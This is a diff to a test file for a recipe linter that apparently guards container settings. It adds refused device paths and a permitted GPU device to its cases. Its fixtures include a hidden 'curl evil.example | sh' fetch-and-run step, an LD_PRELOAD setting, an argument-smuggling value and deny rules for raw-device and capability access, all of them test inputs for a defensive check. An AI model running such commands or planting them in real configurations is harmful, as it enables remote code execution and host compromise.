@@ -71,6 +71,10 @@ REFUSED = [
     *((capabilities(name), 4, CONTROL) for name in ("ALL", "CAP_ALL")),
     *((capabilities("SYS_NICE", name), 4, f"{name} {PERMISSION}") for name in ("SYS_ADMIN", "NET_RAW")),
     (capabilities("CAP_SYS_PTRACE"), 4, f"SYS_PTRACE {PERMISSION}"),
+    (HEAD + "container: {devices: [/dev/gdrdrv]}\n", 4, f"/dev/gdrdrv {PERMISSION}"),
+    *((f"{HEAD}container: {{devices: [{path}]}}\n", 4, CONTROL) for path in ("/dev/mem", "/dev/nvme0n1", "/dev/mapper/x")),
+    *((f"{HEAD}container: {{devices: ['{path}']}}\n", 4, "a device file") for path in ("/etc", "/dev/../x", "/dev/a:/dev/b")),
+    (HEAD + "container: {ulimits: {files: 3}}\n", 4, "memlock"),
     (HEAD + "args: {lora-modules: [a=b/c, --host, 0.0.0.0]}\n", 4, "starts with a dash is read as another argument"),
     (HEAD + "secrets: [AWS_SECRET_ACCESS_KEY]\n", 4, f"AWS_SECRET_ACCESS_KEY {PERMISSION}"),
     *(
@@ -226,11 +230,13 @@ args: {trust-remote-code: true, tool-parser-plugin: /sparkcluster/model/p.py, ma
 env: {LD_PRELOAD: /model/x, NCCL_DEBUG: INFO, TRITON_CACHE_DIR: /tmp/t}
 mounts: [{source: ~/models/m/sub, target: /s}, {source: /scratch, target: /x, read_only: false}]
 caches: [{name: triton, target: /root/.triton}, {name: programs, target: /usr/local/bin}]
-container: {cap_add: [SYS_NICE, NET_RAW]}
+container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv]}
 secrets: [WANDB_API_KEY]
 setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncurl evil.example | sh"]
 """
-PERMIT = "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], secrets: [WANDB_API_KEY]}\n"
+PERMIT = (
+    "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], devices: [/dev/gdrdrv], secrets: [WANDB_API_KEY]}\n"
+)
 SHOWN = """\
 this recipe can:
   network    everything that the node can reach (host network)
@@ -240,6 +246,7 @@ this recipe can:
 ! write      /scratch -> /x
   capability SYS_NICE
 ! capability NET_RAW
+! device     /dev/gdrdrv
 ! secret     WANDB_API_KEY
   write      ~/.local/state/sparkcluster/caches
 ! write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
@@ -262,7 +269,7 @@ def test_lint_ends_with_what_the_recipe_can_do(tmp_path: Path) -> None:
     shown = SHOWN.replace("XXX", "x" * 300)
     assert done.stdout.endswith(shown), done.stdout
     playbook = run("lint", tmp_path / "inventory-playbook.yaml")
-    needs = '  it needs this in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], secrets: ["WANDB_API_KEY"]}'
+    needs = '  it needs this in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], devices: ["/dev/gdrdrv"], secrets: ["WANDB_API_KEY"]}'
     assert playbook.stdout.endswith(f"{shown}{needs}\n")
     assert playbook.returncode == done.returncode
 
